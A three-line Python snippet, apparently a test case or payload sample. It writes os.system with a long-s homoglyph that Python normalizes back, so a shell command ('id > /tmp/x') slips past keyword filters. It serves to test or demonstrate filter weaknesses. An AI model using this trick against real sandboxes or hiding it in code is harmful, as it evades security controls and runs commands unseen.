# why: the long s folds to a plain s under NFKC
import os
os.ſystem("id > /tmp/x")
